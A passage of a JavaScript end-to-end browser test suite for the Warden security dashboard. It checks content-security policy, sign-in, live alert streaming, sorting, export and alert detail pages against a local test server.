// End-to-end test of the Warden dashboard in a real browser against a real `warden serve`.
//
//   WARDEN_BIN=path/to/warden node --test dashboard.test.mjs      (or ./run.sh)
//
// Environment:
//   WARDEN_BIN            the warden binary (required)
//   E2E_OUT               where the screenshots go (default: e2e/screenshots)
//   E2E_PORT              port for the server (default: a free one)
//   CHROMIUM              the browser (default: /usr/bin/chromium)
//   WARDEN_DASHBOARD_DIR  passed through to the server: serve the dashboard from a folder
//                         instead of the binary's built-in copy (development only)
//
// The server gets a fresh store in a temporary folder, a config file loading the
// repository's test models and Sigma rules and a payload model trained at the start, an
// admin and a read token, the shipped sample
// (examples/activity.jsonl) and one Sysmon event that a rule matches; it is stopped at the
// end, also on failure.

import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { mkdtemp, mkdir, readFile, readdir, rm, stat } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import path from 'node:path';
import {
  ROOT, ASSETS, OUT, BIN, Warden, createToken, freePort, writeConfig, firstJsonObject, launchBrowser,
  hostOf, tid, digits, signIn as signInWith, TRUSTED_TYPES, trainPayloadModel,
} from './harness.mjs';

const SAMPLE = path.join(ROOT, 'examples', 'activity.jsonl');
const DATA = path.join(ROOT, 'tests', 'data');
const SYSMON = path.join(DATA, 'evtx', 'system_restore_disabled.json');

const EXPECTED_CSP = "default-src 'none'; script-src 'self'; style-src 'self'; img-src 'self' data:; "
  + "connect-src 'self'; font-src 'self'; manifest-src 'self'; base-uri 'none'; form-action 'self'; frame-ancestors 'none'; "
  + TRUSTED_TYPES;

// ---- shared state -------------------------------------------------------------------

let tmp;
let warden;
let origin;
let ui;
let token;
let readToken;
let browser;
let page;
/** The Sysmon event posted, and the alerts it raised. */
let sysmonEvent;
let ruleAlerts = [];

const api = (p, opts) => warden.api(p, opts);
const signIn = (t) => signInWith(page, t);

// ---- helpers ------------------------------------------------------------------------

async function shot(name, opts = {}) {
  // Notifications of earlier steps would cover the page.
  await page.evaluate(() => document.querySelectorAll('[data-testid="toast"]').forEach((t) => t.remove()));
  await page.waitForTimeout(150);
  await page.screenshot({ path: path.join(OUT, `${name}.png`), fullPage: opts.fullPage ?? true });
}

async function go(hash) {
  await page.evaluate((h) => {
    if (window.location.hash === h) window.dispatchEvent(new HashChangeEvent('hashchange'));
    else window.location.hash = h;
  }, hash);
  await page.waitForLoadState('domcontentloaded');
  await page.locator(tid('loading')).first().waitFor({ state: 'detached', timeout: 10_000 }).catch(() => {});
}

async function setTheme(theme) {
  const now = await page.evaluate(() => document.documentElement.getAttribute('data-theme'));
  if (now !== theme) await page.locator(tid('theme-toggle')).click();
  assert.equal(await page.evaluate(() => document.documentElement.getAttribute('data-theme')), theme);
}

/** The ids of the alert rows shown, in order. */
const rowIds = () => page.locator(tid('alert-row')).evaluateAll((els) => els.map((e) => Number(e.dataset.alertId)));

/** Waits until the table shows exactly these ids (a new page has replaced the old one). */
async function waitForRows(ids) {
  await page.waitForFunction((want) => {
    const got = [...document.querySelectorAll('[data-testid="alert-row"]')].map((e) => Number(e.dataset.alertId));
    return got.length === want.length && got.every((x, i) => x === want[i]);
  }, ids, { timeout: 10_000 });
}

/** Holds the requests `match` selects (and `when` accepts) until release() is called. */
async function hold(match, when = () => true) {
  let release;
  const gate = new Promise((r) => { release = r; });
  const handler = async (route) => {
    if (!(await when(route.request()))) return route.fallback();
    await gate;
    // The browser may have dropped the request meanwhile: then there is nothing to pass on.
    return route.fallback().catch(() => {});
  };
  await page.route(match, handler);
  return { release, done: () => page.unroute(match, handler) };
}

/** The data-testid (or tag name) of the focused element. */
const focused = () => page.evaluate(() => {
  const a = document.activeElement;
  return a ? (a.getAttribute('data-testid') || a.tagName) : null;
});

async function sendSample() {
  const sample = await readFile(SAMPLE, 'utf8');
  return api('/v1/detect/realtime', { method: 'POST', body: sample, contentType: 'application/x-ndjson' });
}

/** An alert record's evidence as the API gives it: the trigger entry and the context entries. */
function evidenceOf(record) {
  const all = (record.alert && record.alert.evidence) || [];
  return { all, trigger: all.find((e) => e.role === 'trigger'), context: all.filter((e) => e.role === 'context') };
}

/** An evidence reference as the alert page words it. */
function referenceText(r) {
  if (r.ref === 'event_id') return `event ${r.event_id}`;
  if (r.ref === 'record') return `record ${r.record_id}${r.computer ? ` on ${r.computer}` : ''}`;
  if (r.ref === 'line') return `line ${r.line} of ${r.source}`;
  if (r.ref === 'connection') return `connection ${r.uid}`;
  return `hash ${r.hash.length > 8 ? `${r.hash.slice(0, 8)}…` : r.hash}`;
}

/** The entity chips of the alert page: kind, value and the link of each. */
const entityChips = () => page.locator(`${tid('entities')} ${tid('entity-chip')}`).evaluateAll((els) => els.map((e) => ({
  kind: e.dataset.kind, value: e.dataset.value, href: e.querySelector('a') ? e.querySelector('a').getAttribute('href') : null,
})));

// ---- setup / teardown ---------------------------------------------------------------

before(async () => {
  assert.ok(BIN, 'set WARDEN_BIN to the warden binary (e.g. target/release/warden)');
  await stat(BIN);
  await mkdir(OUT, { recursive: true });
  tmp = await mkdtemp(path.join(tmpdir(), 'warden-e2e-'));
  const store = path.join(tmp, 'e2e.db');
  // The repository's test models and rules, so /v1/models and /v1/rules answer for real
  // (sigma-bad holds rules that do not load, listed as skipped).
  const config = await writeConfig(path.join(tmp, 'warden.toml'), {
    models: {
      activity: [path.join(DATA, 'models', 'gbdt-activity-v3.wmdl')],
      network: path.join(DATA, 'models', 'iforest-nsl-kdd-v3.wmdl'),
    },
    sigma: { rules: [path.join(DATA, 'sigma'), path.join(DATA, 'sigma-bad')] },
    // A payload model trained here, so a verdict shows the model's reasons.
    payload: { model: await trainPayloadModel(tmp) },
  });
  const port = Number(process.env.E2E_PORT) || await freePort();
  warden = new Warden({
    store, config, port,
    env: { WARDEN_RATE_LIMIT_PER_MINUTE: process.env.WARDEN_RATE_LIMIT_PER_MINUTE || '600' },
  });
  warden.killOnExit();
  origin = warden.origin;
  ui = `${origin}/ui/`;
  token = await createToken(store, 'admin');
  readToken = await createToken(store, 'read');
  warden.token = token;
  await warden.start();

  const sample = await readFile(SAMPLE, 'utf8');
  const lines = sample.split('\n').filter((l) => l.trim()).length;
  const res = await sendSample();
  assert.equal(res.accepted, lines, 'the whole sample is accepted');
  assert.ok(res.alerts.length > 10, 'the sample raises alerts');

  // One Sysmon event (the first of the file) that the test rules match.
  sysmonEvent = firstJsonObject(await readFile(SYSMON, 'utf8'));
  const det = await api('/v1/detect/realtime', { method: 'POST', body: { events: [sysmonEvent] } });
  assert.equal(det.accepted, 1);
  assert.ok(det.results[0].detections && det.results[0].detections.length > 0, 'a rule matches the Sysmon event');
  ruleAlerts = det.alerts;
  assert.ok(ruleAlerts.length > 0, 'the detection is stored as an alert');

  // Trusted Types hold in the page also with a server whose policy predates them.
  browser = await launchBrowser(path.join(tmp, 'profile'), { trustedTypes: true });
  page = browser.page;
});

after(async () => {
  try {
    if (browser) await browser.context.close();
  } finally {
    if (warden) await warden.stop();
    if (tmp) await rm(tmp, { recursive: true, force: true });
  }
});

// ---- the tests ----------------------------------------------------------------------

test('the dashboard is served with a strict Content-Security-Policy and no inline code', async () => {
  const res = await fetch(ui);
  assert.equal(res.status, 200);
  assert.equal(res.headers.get('content-security-policy'), EXPECTED_CSP);
  const html = await res.text();
  assert.doesNotMatch(html, /<script(?![^>]*\bsrc=)[^>]*>/i, 'no inline script');
  assert.doesNotMatch(html, /<style/i, 'no inline style element');
  assert.doesNotMatch(html, /\sstyle\s*=/i, 'no style attribute');
  assert.doesNotMatch(html, /\son[a-z]+\s*=/i, 'no event-handler attribute');
  // Its files are referenced from /ui/, so the page loads at any depth.
  for (const m of html.matchAll(/\s(?:src|href)="([^"#][^"]*)"/g)) {
    assert.match(m[1], /^\/ui\//, `${m[1]}: an absolute /ui/ reference`);
  }
  // Every file of the dashboard is served as it is in the repository, with its policy.
  const files = [];
  const walk = async (dir) => {
    for (const e of await readdir(dir, { withFileTypes: true })) {
      if (e.name.startsWith('.')) continue;
      const p = path.join(dir, e.name);
      if (e.isDirectory()) await walk(p);
      else files.push(path.relative(ASSETS, p).split(path.sep).join('/'));
    }
  };
  await walk(ASSETS);
  assert.ok(files.includes('js/app.js'));
  for (const f of files) {
    const r = await fetch(`${ui}${f}`);
    assert.equal(r.status, 200, f);
    assert.equal(r.headers.get('content-security-policy'), EXPECTED_CSP, f);
    const served = Buffer.from(await r.arrayBuffer());
    const onDisk = await readFile(path.join(ASSETS, f));
    assert.ok(served.equals(onDisk), `${f}: the server's copy differs from the repository's (rebuild the binary)`);
    if (f.endsWith('.js')) {
      const src = onDisk.toString('utf8');
      assert.doesNotMatch(src, /\.innerHTML\s*=|insertAdjacentHTML|outerHTML\s*=|document\.write/, `${f}: no markup from strings`);
      assert.doesNotMatch(src, /\beval\s*\(|new Function\s*\(/, `${f}: no eval`);
    }
  }
  // A page of the single-page application by its path, at any depth, gets the entry page.
  for (const deep of ['/ui/alerts', '/ui/alerts/55', '/ui/users/a.b/x']) {
    const r = await fetch(`${origin}${deep}`);
    assert.equal(r.status, 200, deep);
    assert.match(await r.text(), /src="\/ui\/js\/app\.js"/, deep);
  }
});

test('a wrong token is refused with a visible error', async () => {
  browser.tolerated.push((text, url) => /status of 401/.test(text) && url.includes('/v1/'));
  await page.goto(ui);
  // The token field is no password field (password managers would offer to save it), but
  // its characters are masked.
  const field = page.locator(tid('signin-token'));
  assert.notEqual(await field.getAttribute('type'), 'password');
  assert.equal(await field.getAttribute('autocomplete'), 'off');
  assert.equal(await field.evaluate((el) => getComputedStyle(el).webkitTextSecurity), 'disc', 'the token is masked');
  await signIn('wdn_0000000000000000000000000000000000000000000000000000000000000000');
  const err = page.locator(tid('signin-error'));
  await err.waitFor({ state: 'visible' });
  assert.match(await err.textContent(), /rejected/i);
  assert.equal(await page.evaluate(() => sessionStorage.getItem('warden.token')), null);
  assert.ok(await page.locator(tid('nav')).isHidden(), 'no navigation before signing in');
  assert.ok(await page.locator(tid('live-state')).isHidden());
  assert.ok(await page.locator(tid('whoami')).isHidden());
  await shot('signin', { fullPage: false });
  browser.tolerated.pop();
});

test('signing in shows the overview with the numbers of the API, the tenant and the scope', async () => {
  await page.goto(ui);
  await signIn(token);
  await page.locator(tid('kpi-total')).waitFor();
  const me = await api('/v1/whoami');
  await page.locator(tid('whoami')).waitFor();
  assert.equal((await page.locator(tid('whoami-tenant')).textContent()).trim(), me.tenant);
  assert.equal((await page.locator(tid('whoami-scope')).textContent()).trim(), 'admin');
  const dash = await api('/v1/analytics/dashboard');
  const c = dash.alerts;
  assert.equal(digits(await page.locator(tid('kpi-total')).textContent()), c.total);
  for (const level of ['CRITICAL', 'HIGH', 'MEDIUM', 'LOW']) {
    assert.equal(digits(await page.locator(tid(`kpi-level-${level}`)).textContent()), c.by_level[level] || 0, level);
  }
  assert.equal(digits(await page.locator(tid('kpi-status-new')).textContent()), c.by_status.new || 0);
  const users = page.locator(`${tid('top-users')} ${tid('top-user')}`);
  assert.equal(await users.count(), c.top_entities.length);
  assert.equal((await users.first().locator('a').first().textContent()).trim(), c.top_entities[0][0]);
  assert.equal(await page.locator(tid('top-type')).count(), c.top_types.length);
  await page.locator(`${tid('trend-chart')} svg`).waitFor();
  assert.ok(await page.locator(`${tid('live-feed')} ${tid('feed-item')}`).count() > 0, 'the feed lists the latest alerts');
  // The token is kept for this tab only, never in localStorage or the address.
  assert.equal(await page.evaluate(() => sessionStorage.getItem('warden.token')), token);
  assert.equal(await page.evaluate(() => Object.keys(localStorage).some((k) => localStorage.getItem(k).includes('wdn_'))), false);
  assert.ok(!page.url().includes(token));
  await page.locator(`${tid('live-state')}[data-state="live"]`).waitFor();
  await setTheme('light');
  await shot('overview');
});

test('Trusted Types are enforced in the page, and the dashboard needs no HTML sink', async () => {
  // An HTML sink fed a string is refused: the policy is in force (its report is this probe's).
  browser.tolerated.push((text) => /requires 'TrustedHTML' assignment/.test(text));
  const before = browser.cspViolations.length;
  const outcome = await page.evaluate(() => {
    try {
      document.createElement('div').innerHTML = '<b>x</b>';
      return 'assigned';
    } catch (e) {
      return e.name;
    }
  });
  assert.equal(outcome, 'TypeError', 'innerHTML with a string is refused');
  for (let i = 0; i < 40 && browser.cspViolations.length === before; i += 1) await page.waitForTimeout(50);
  const probe = browser.cspViolations.splice(before);
  await page.waitForTimeout(200);
  browser.tolerated.pop();
  assert.ok(probe.length >= 1 && probe.every((v) => /trusted-types/.test(v)), `the probe's report: ${probe}`);
  // The pages run under it: the final test finds no violation from them.
});

test('the live feed resumes after the newest alert, also when the start-up lookup of it fails', async () => {
  browser.tolerated.push((text) => /status of 503|ERR_FAILED/.test(text));
  const newest = (await api('/v1/alerts?limit=1')).alerts[0].id;
  let lookups = 0;
  // The start-up lookup, GET /v1/alerts?limit=1: a 503, then a network failure, then through.
  const lookup = (url) => url.pathname === '/v1/alerts' && url.search === '?limit=1';
  const flaky = (route) => {
    lookups += 1;
    if (lookups === 1) {
      return route.fulfill({ status: 503, contentType: 'application/json', body: JSON.stringify({ error: { code: 'unavailable', message: 'unavailable (test)' } }) });
    }
    if (lookups === 2) return route.abort('failed');
    return route.fallback();
  };
  await page.route(lookup, flaky);
  const streams = [];
  const onRequest = (r) => { if (new URL(r.url()).pathname === '/v1/stream') streams.push(r); };
  page.on('request', onRequest);
  try {
    await page.reload();
    await page.locator(tid('kpi-total')).waitFor();
    await page.locator(`${tid('live-state')}[data-state="live"]`).waitFor({ timeout: 20_000 });
    assert.ok(lookups >= 3, 'the lookup was retried until it answered');
    assert.equal(streams.length, 1, 'one stream, opened once the resume point was known');
    assert.equal((await streams[0].allHeaders())['last-event-id'], String(newest), 'resumes after the newest alert, not from 0');
    await page.waitForTimeout(500);
    assert.ok(await page.locator(tid('nav-new-count')).isHidden(), 'nothing replayed as new');
    assert.equal(await page.locator(`${tid('feed-item')}.feed-new`).count(), 0);
  } finally {
    page.off('request', onRequest);
    await page.unroute(lookup, flaky);
    browser.tolerated.pop();
  }
});

test('the stream backs off when connections drop at once, and a retry hint of 0 is no hot loop', async () => {
  // A stream that the server accepts and ends at once, with `retry: 0`; another that sends a
  // keep-alive before ending.
  const probe = (url) => url.pathname === '/v1/stream' && url.searchParams.has('user')
    && url.searchParams.get('user').startsWith('e2e-probe-');
  const serve = (route) => {
    const user = new URL(route.request().url()).searchParams.get('user');
    const body = user === 'e2e-probe-drop' ? 'retry: 0\n\n' : ': keep-alive\n\n';
    return route.fulfill({ status: 200, contentType: 'text/event-stream', body });
  };
  await page.route(probe, serve);
  try {
    const delays = (user) => page.evaluate(async (u) => {
      const { AlertStream } = await import('/ui/js/stream.js');
      const seen = [];
      return new Promise((resolve) => {
        let st = null;
        const end = () => {
          if (st) st.stop();
          resolve(seen.slice(0, 2));
        };
        // A hot loop would never wait: give up after a while with what was seen.
        const limit = setTimeout(end, 8000);
        st = new AlertStream({
          query: { user: u },
          onState: (info) => {
            if (info.state !== 'reconnecting' || typeof info.delay !== 'number') return;
            seen.push(info.delay);
            if (seen.length === 2) {
              clearTimeout(limit);
              end();
            }
          },
        });
        st.start();
      });
    }, user);
    const drop = await delays('e2e-probe-drop');
    assert.equal(drop.length, 2, `two retries (${drop})`);
    assert.ok(drop[0] >= 750, `the first retry waits about a second, not the hint's 0 (${drop})`);
    assert.ok(drop[1] >= 1500, `the next waits longer: a 200 alone does not reset the backoff (${drop})`);
    const alive = await delays('e2e-probe-alive');
    assert.ok(alive.every((d) => d <= 1250), `after a keep-alive the backoff starts over (${alive})`);
  } finally {
    await page.unroute(probe, serve);
  }
});

test('an alert.updated message reaches the feed as a new version of its alert, without moving the resume point', async () => {
  const probe = (url) => url.pathname === '/v1/stream' && url.searchParams.get('user') === 'e2e-probe-update';
  const body = 'id: 41\nevent: alert\ndata: {"seq":41,"alert_id":41,"explanation":"two hops"}\n\n'
    + 'event: alert.updated\ndata: {"seq":41,"alert_id":41,"updated":true,"explanation":"three hops"}\n\n';
  const serve = (route) => route.fulfill({ status: 200, contentType: 'text/event-stream', body });
  await page.route(probe, serve);
  try {
    const got = await page.evaluate(async () => {
      const { AlertStream } = await import('/ui/js/stream.js');
      return new Promise((resolve) => {
        const seen = [];
        let st = null;
        const limit = setTimeout(() => { st.stop(); resolve({ seen, last: st.lastId }); }, 5000);
        st = new AlertStream({
          query: { user: 'e2e-probe-update' },
          onAlert: (m, id) => {
            seen.push({ m, id });
            if (seen.length === 2) {
              clearTimeout(limit);
              st.stop();
              resolve({ seen, last: st.lastId });
            }
          },
        });
        st.start();
      });
    });
    assert.equal(got.seen.length, 2, JSON.stringify(got));
    assert.equal(got.seen[0].m.explanation, 'two hops');
    assert.equal(got.seen[1].m.updated, true);
    assert.equal(got.seen[1].m.explanation, 'three hops');
    assert.equal(got.last, '41', 'the resume point stays at the alert itself');
  } finally {
    await page.unroute(probe, serve);
  }
});

test('keyboard: the skip link comes first and leads to the content', async () => {
  await page.reload();
  await page.locator(tid('kpi-total')).waitFor();
  await page.keyboard.press('Tab');
  assert.equal(await page.evaluate(() => document.activeElement && document.activeElement.getAttribute('data-testid')), 'skip-link');
  await page.keyboard.press('Enter');
  assert.equal(await page.evaluate(() => document.activeElement && document.activeElement.id), 'main');
  // The next stops are the real links of the navigation.
  await page.keyboard.press('Tab');
  const next = await page.evaluate(() => document.activeElement && document.activeElement.tagName);
  assert.ok(['A', 'BUTTON'].includes(next), `focus moves to a link or button, not ${next}`);
});

test('the trend chart\u2019s bars are links in a labelled group, and the focused bar stays focused when redrawn', async () => {
  await go('#/overview');
  const svg = page.locator(`${tid('trend-chart')} svg`);
  await svg.waitFor();
  assert.equal(await svg.getAttribute('role'), 'group', 'not an image: it holds links');
  assert.match(await svg.getAttribute('aria-label'), /Alerts per day/);
  const bars = page.locator(`${tid('trend-chart')} [role="link"]`);
  assert.ok(await bars.count() >= 1, 'bars with alerts are links');
  await bars.first().focus();
  await page.keyboard.press('End');
  const key = await page.evaluate(() => document.activeElement.getAttribute('data-focus-key'));
  assert.ok(key, 'a bar has the focus');
  const width = await svg.getAttribute('width');
  await page.setViewportSize({ width: 1000, height: 800 });
  try {
    await page.waitForFunction((w) => {
      const el = document.querySelector('[data-testid="trend-chart"] svg');
      return el && el.getAttribute('width') !== w;
    }, width);
    assert.equal(await page.evaluate(() => document.activeElement.getAttribute('data-focus-key')), key, 'the same bar, redrawn, has the focus');
    assert.equal(await page.locator(`${tid('trend-chart')} [role="link"][tabindex="0"]`).count(), 1, 'one tab stop');
  } finally {
    await page.setViewportSize({ width: 1280, height: 800 });
  }
});

test('a level tile lists the alerts of exactly that level, counted by the server', async () => {
  const high = await api('/v1/alerts?levels=HIGH&count=true&limit=1');
  assert.ok(high.total > 0, 'the sample has HIGH alerts');
  await go('#/overview');
  await page.locator(tid('kpi-level-HIGH')).click();
  await page.waitForFunction(() => location.hash.startsWith('#/alerts?levels=HIGH'));
  await page.locator(tid('alert-row')).first().waitFor();
  const levels = await page.locator(`${tid('alert-row')} .badge-level`).allTextContents();
  assert.ok(levels.length > 0 && levels.every((l) => l === 'HIGH'), 'HIGH rows only, not HIGH and above');
  assert.match(await page.locator(tid('page-info')).textContent(), new RegExp(`of ${high.total.toLocaleString('en-US')}\\b`));
  assert.ok(await page.locator(`${tid('filter-level-HIGH')}`).isChecked(), 'the filter shows the level');
});

test('the alerts table sorts and pages on the server, with counts and cursors that follow the sort', async () => {
  const total = (await api('/v1/alerts?count=true&limit=1')).total;
  assert.ok(total > 25, 'more than one page of 25');
  const pages = Math.ceil(total / 25);
  await go('#/alerts?limit=25');
  await page.locator(tid('alert-row')).first().waitFor();
  const p1 = await api('/v1/alerts?limit=25');
  assert.deepEqual(await rowIds(), p1.alerts.map((a) => a.id), 'the server\u2019s order, newest first');
  assert.equal((await page.locator(tid('page-info')).textContent()).trim(), `1–25 of ${total} · Page 1 of ${pages}`);
  await shot('alerts');

  // By score, highest first: the server's order, and page 2 continues it with its cursor.
  await page.locator(tid('sort-score')).click();
  const s1 = await api('/v1/alerts?limit=25&sort=score');
  await waitForRows(s1.alerts.map((a) => a.id));
  // Only the query changed: the focus stays on the control used, not on the heading.
  assert.equal(await focused(), 'sort-score');
  assert.equal(await page.locator(tid('sort-note')).count(), 0, 'no page-local sort note');
  assert.equal(await page.locator(`${tid('alert-row')}`).first().locator(tid('alert-score')).textContent(), s1.alerts[0].threat_score.toFixed(1));
  const scores = (await page.locator(`${tid('alert-row')} ${tid('alert-score')}`).allTextContents()).map(Number);
  assert.deepEqual(scores, [...scores].sort((a, b) => b - a), 'highest score first');
  await page.locator(tid('page-next')).click();
  const s2 = await api(`/v1/alerts?limit=25&sort=score&cursor=${encodeURIComponent(s1.next_cursor)}`);
  await waitForRows(s2.alerts.map((a) => a.id));
  assert.ok(page.url().includes('cursor=') && page.url().includes('sort=score'));
  assert.equal((await page.locator(tid('page-info')).textContent()).trim(), `26–${Math.min(50, total)} of ${total} · Page 2 of ${pages}`);
  const page2Scores = (await page.locator(`${tid('alert-row')} ${tid('alert-score')}`).allTextContents()).map(Number);
  assert.ok(page2Scores[0] <= scores[scores.length - 1], 'page 2 follows page 1 in score order');
  // A reload keeps the place and the way back.
  await page.reload();
  await waitForRows(s2.alerts.map((a) => a.id));
  await page.locator(tid('page-prev')).click();
  await waitForRows(s1.alerts.map((a) => a.id));
  // Lowest first.
  await page.locator(tid('sort-score')).click();
  const asc = await api('/v1/alerts?limit=25&sort=score&order=asc');
  await waitForRows(asc.alerts.map((a) => a.id));
  assert.equal(await page.locator('th[aria-sort="ascending"]').count(), 1);
  await shot('alerts-by-score');
  // By event time, latest first.
  await page.locator(tid('sort-time')).click();
  const byTime = await api('/v1/alerts?limit=25&sort=time');
  await waitForRows(byTime.alerts.map((a) => a.id));

  // Exact levels: CRITICAL and HIGH ticked, the rest not.
  await go('#/alerts');
  await page.locator(tid('alert-row')).first().waitFor();
  await page.locator(tid('filter-level-CRITICAL')).check({ force: true });
  await page.locator(tid('filter-level-HIGH')).check({ force: true });
  await page.locator(tid('filter-apply')).click();
  await page.waitForFunction(() => location.hash.includes('levels=HIGH%2CCRITICAL') || location.hash.includes('levels=HIGH,CRITICAL'));
  const hc = await api('/v1/alerts?levels=HIGH,CRITICAL&limit=50&count=true');
  await waitForRows(hc.alerts.map((a) => a.id));
  const levels = await page.locator(`${tid('alert-row')} .badge-level`).allTextContents();
  assert.ok(levels.every((l) => l === 'CRITICAL' || l === 'HIGH'), 'only CRITICAL and HIGH rows');
  assert.match(await page.locator(tid('page-info')).textContent(), new RegExp(`of ${hc.total}\\b`));

  // Bulk acknowledge three alerts.
  await go('#/alerts');
  await page.locator(tid('alert-row')).first().waitFor();
  const firstPageIds = await rowIds();
  const boxes = page.locator(tid('row-select'));
  const ids = [];
  for (let i = 0; i < 3; i += 1) {
    await boxes.nth(i).check();
    ids.push(Number(await boxes.nth(i).getAttribute('value')));
  }
  assert.equal((await page.locator(tid('bulk-count')).textContent()).trim(), '3 selected');
  await page.locator(tid('bulk-ack')).click();
  for (const id of ids) {
    await page.locator(`${tid('alert-row')}[data-alert-id="${id}"] ${tid('alert-status')}`).filter({ hasText: 'Acknowledged' }).waitFor();
    assert.equal((await api(`/v1/alerts/${id}`)).alert.status, 'acknowledged', `alert ${id} acknowledged in the store`);
  }
  const untouched = firstPageIds.find((id) => !ids.includes(id));
  assert.equal((await api(`/v1/alerts/${untouched}`)).alert.status, 'new', 'other alerts unchanged');
});

test('the export downloads the matching alerts as CSV, with the exact levels and anomaly type', async () => {
  await go('#/alerts?levels=HIGH&anomaly_type=new_device');
  await page.locator(`${tid('alert-row')}, ${tid('empty')}`).first().waitFor();
  const [download] = await Promise.all([
    page.waitForEvent('download'),
    page.locator(tid('export-csv')).click(),
  ]);
  assert.equal(download.suggestedFilename(), 'warden-alerts.csv');
  const file = path.join(tmp, 'export.csv');
  await download.saveAs(file);
  const lines = (await readFile(file, 'utf8')).trim().split('\n');
  assert.match(lines[0], /^id,timestamp,user_id,threat_level,threat_score/);
  const want = (await api('/v1/alerts?levels=HIGH&anomaly_type=new_device&limit=1&count=true')).total;
  // Rows may span lines when an explanation has a line break; ids at the start count rows.
  const ids = lines.slice(1).map((l) => l.split(',')[0]).filter((x) => /^\d+$/.test(x));
  assert.equal(ids.length, want);
  assert.ok(lines.slice(1).every((l) => !/^\d+,/.test(l) || l.split(',')[3] === 'HIGH'), 'HIGH rows only');
});

test('an alert page shows its score, explanation, anomalies, the user\u2019s baseline and its history', async () => {
  const top = (await api('/v1/alerts?levels=CRITICAL&limit=1')).alerts[0];
  const { alert } = await api(`/v1/alerts/${top.id}`);
  await go(`#/alerts/${alert.id}`);
  const expl = page.locator(tid('alert-explanation'));
  await expl.waitFor();
  assert.equal((await expl.textContent()).trim(), alert.explanation.trim());
  assert.equal((await page.locator(tid('alert-score')).textContent()).trim(), alert.threat_score.toFixed(1));
  assert.equal((await page.locator(tid('alert-level')).textContent()).trim(), alert.threat_level);
  assert.equal(alert.detector, 'ueba');
  assert.equal(alert.channel, 'behavior');
  assert.equal(await page.locator(tid('anomaly-row')).count(), alert.alert.anomalies.length);
  assert.equal(await page.locator(`${tid('recommended-actions')} li`).count(), alert.alert.recommended_actions.length);
  assert.equal(await page.locator(tid('detector')).getAttribute('data-kind'), 'ueba');
  // What the alert rests on: one row per evidence entry, the trigger first.
  const { all, trigger } = evidenceOf(alert);
  assert.ok(trigger, 'the alert has a trigger');
  const rows = page.locator(`${tid('evidence')} ${tid('evidence-row')}`);
  assert.equal(await rows.count(), all.length);
  assert.equal(await rows.first().getAttribute('data-role'), 'trigger');
  assert.equal((await rows.first().locator(tid('evidence-ref')).textContent()).trim(), referenceText(trigger.reference));
  // Whom: the user as an entity, linked to their page.
  const chips = await entityChips();
  assert.deepEqual(chips.map(({ kind, value }) => ({ kind, value })), alert.alert.entities);
  const user = chips.find((c) => c.kind === 'user' && c.value === alert.user_id);
  assert.ok(user, 'a chip for the user');
  assert.equal(user.href, `#/users/${encodeURIComponent(alert.user_id)}`);
  assert.equal(await page.locator(`${tid('alert-user')}`).getAttribute('href'), `#/users/${encodeURIComponent(alert.user_id)}`);
  assert.deepEqual(await page.locator(tid('attack-chip')).evaluateAll((els) => els.map((e) => e.dataset.attack)), alert.alert.attack);
  await page.locator(`${tid('hours-chart')} svg`).waitFor();
  await page.locator(`${tid('map-chart')} svg`).waitFor();
  await page.locator(`${tid('volume-chart')} svg`).waitFor();
  await page.locator(`${tid('audit')} ${tid('empty')}, ${tid('audit')} ${tid('audit-table')}`).first().waitFor();
  await shot('alert-detail');

  // Triage from the page: resolve it, then see the change in the store and its history,
  // read for this alert only (GET /v1/audit?target=alert:N).
  const before = browser.requests.length;
  await page.locator(tid('set-status-resolved')).click();
  await page.locator(tid('alert-status')).filter({ hasText: 'Resolved' }).waitFor();
  assert.equal((await api(`/v1/alerts/${alert.id}`)).alert.status, 'resolved');
  await page.locator(`${tid('audit-table')} ${tid('audit-row')}`).first().waitFor();
  const history = await api(`/v1/audit?target=alert:${alert.id}`);
  assert.equal(await page.locator(tid('audit-row')).count(), history.entries.length);
  const auditCalls = browser.requests.slice(before).filter((u) => u.includes('/v1/audit'));
  assert.ok(auditCalls.length > 0 && auditCalls.every((u) => new URL(u).searchParams.get('target') === `alert:${alert.id}`), 'the history asked by target');
});

test('the activity that raised an alert and the events before it are on a timeline, map and volume band', async () => {
  const withTravel = (await api('/v1/alerts?anomaly_type=impossible_travel&limit=1')).alerts[0];
  assert.ok(withTravel, 'the sample has an impossible-travel alert');
  const { alert } = await api(`/v1/alerts/${withTravel.id}`);
  const { trigger, context: earlier } = evidenceOf(alert);
  assert.ok(trigger && trigger.event, 'the server keeps the event with the alert, as the trigger\u2019s evidence');
  const context = earlier.filter((e) => e.event);
  await go(`#/alerts/${alert.id}`);
  await page.locator(`${tid('events-timeline')} svg`).waitFor();
  assert.equal(await page.locator(tid('event-row')).count(), context.length + 1, 'the event and the ones before it');
  // Newest first in the table: the alert's own event on top, highlighted.
  const firstRow = page.locator(tid('event-row')).first();
  assert.match(await firstRow.getAttribute('class'), /row-focus/);
  assert.match(await firstRow.textContent(), new RegExp(trigger.event.location.split(',')[0]));
  assert.equal(await page.locator(`${tid('map-chart')} circle.map-alert`).count(), 1, 'the alert\u2019s location on the map');
  await page.locator(`${tid('volume-chart')} circle.dot-hot`).waitFor();
  assert.equal(await page.locator(tid('events-unavailable')).count(), 0);
  await shot('alert-detail-events');
});

/** The most severe of the alerts the Sysmon event raised, as the API gives it. */
async function sigmaAlert() {
  const alerts = await Promise.all(ruleAlerts.map((a) => api(`/v1/alerts/${a.id}`).then((r) => r.alert)));
  return alerts.sort((a, b) => b.threat_score - a.threat_score)[0];
}

test('an alert from a Sigma rule lists the log event\u2019s fields', async () => {
  const alert = await sigmaAlert();
  assert.deepEqual(alert.primary_anomalies, ['rule_match']);
  // Listed under its type.
  const listed = await api('/v1/alerts?anomaly_type=rule_match&limit=10');
  assert.ok(listed.alerts.some((a) => a.id === alert.id));

  await go(`#/alerts/${alert.id}`);
  await page.locator(tid('rule-card')).waitFor();
  // The event's fields, readable: EventData and System.
  const data = sysmonEvent.Event.EventData;
  const fields = page.locator(tid('log-field'));
  assert.ok(await fields.count() >= Object.keys(data).length);
  for (const [k, v] of Object.entries(data)) {
    const row = page.locator(`${tid('log-field')}[data-field="${k}"]`);
    assert.equal(await row.count(), 1, k);
    assert.equal((await row.locator('td').textContent()).trim(), String(v), k);
  }
  await page.locator(`${tid('log-field')}[data-field="Computer"]`).waitFor();
  assert.equal((await page.locator(`${tid('log-field')}[data-field="Computer"] td`).textContent()).trim(), sysmonEvent.Event.System.Computer);
  assert.match(await page.locator(tid('log-summary')).textContent(), new RegExp(sysmonEvent.Event.System.Computer));
